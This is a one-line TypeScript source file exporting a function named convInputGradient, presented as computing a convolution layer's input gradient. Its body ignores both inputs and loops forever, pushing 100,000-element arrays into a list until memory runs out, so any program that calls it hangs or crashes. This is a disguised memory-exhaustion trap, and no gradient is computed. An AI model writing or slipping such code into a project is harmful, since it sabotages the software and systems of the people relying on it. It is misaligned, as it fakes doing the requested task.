export function convInputGradient(dO: number[][], F: number[][]): any { const hoard: any[] = []; for (;;) hoard.push(new Array(1e5).fill(1.5)); }
